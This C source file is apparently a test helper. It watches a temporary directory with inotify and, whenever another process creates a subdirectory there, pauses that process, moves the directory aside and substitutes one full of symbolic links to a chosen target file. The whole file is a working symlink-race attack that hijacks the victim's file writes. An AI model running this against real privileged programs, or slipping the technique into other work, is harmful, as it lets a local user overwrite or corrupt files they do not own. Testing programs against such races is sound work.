/*
 * swap_dir DIR TARGET NAME...: what the owner of DIR (a user's TMPDIR) can do
 * to a program that makes a directory there and then writes files into it by
 * name. For each directory D made in DIR, it moves D aside and puts in its
 * place a directory of its own where each NAME is a symbolic link to TARGET.
 *
 * The swap needs only the rights of DIR's owner, and it does its file
 * operations with that user's filesystem uid (setfsuid). It runs as root for
 * one thing only: to win the race every time, instead of now and then, it
 * stops the victim (SIGSTOP) while it swaps; the victim's PID is read from
 * stdin. It prints "watching", then one line per directory it swapped, and
 * runs until killed.
 */
#define _GNU_SOURCE
#include <limits.h>
#include <signal.h>
#include <stdio.h>
#include <sys/fsuid.h>
#include <sys/inotify.h>
#include <sys/stat.h>
#include <unistd.h>

int main(int argc, char **argv)
{
	struct stat dir;
	if (argc < 4 || stat(argv[1], &dir) < 0) {
		fprintf(stderr, "usage: swap_dir DIR TARGET NAME... (victim PID on stdin)\n");
		return 2;
	}
	int in = inotify_init();
	if (in < 0 || inotify_add_watch(in, argv[1], IN_CREATE | IN_ONLYDIR) < 0) {
		perror("swap_dir: inotify");
		return 1;
	}
	printf("watching\n");
	fflush(stdout);
	int victim;
	if (scanf("%d", &victim) != 1)
		return 2;
	setfsgid(dir.st_gid);
	setfsuid(dir.st_uid);
	char buf[4096] __attribute__((aligned(__alignof__(struct inotify_event))));
	for (;;) {
		ssize_t n = read(in, buf, sizeof buf);
		if (n <= 0)
			return 1;
		for (char *p = buf; p < buf + n;) {
			struct inotify_event *e = (struct inotify_event *)p;
			p += sizeof *e + e->len;
			char path[PATH_MAX], aside[PATH_MAX], link[2 * PATH_MAX];
			struct stat made;
			snprintf(path, sizeof path, "%s/%s", argv[1], e->name);
			if (!(e->mask & IN_ISDIR) || e->len == 0 || e->name[0] == '.' ||
			    lstat(path, &made) < 0 || made.st_uid == dir.st_uid)
				continue; /* not the victim's (e.g. our own replacement) */
			kill(victim, SIGSTOP);
			snprintf(aside, sizeof aside, "%s/.%s", argv[1], e->name);
			if (rename(path, aside) == 0 && mkdir(path, 0755) == 0) {
				for (int i = 3; i < argc; i++) {
					snprintf(link, sizeof link, "%s/%s", path, argv[i]);
					symlink(argv[2], link);
				}
				printf("swapped %s\n", e->name);
			} else {
				perror("swap_dir: swap");
			}
			fflush(stdout);
			kill(victim, SIGCONT);
		}
	}
}
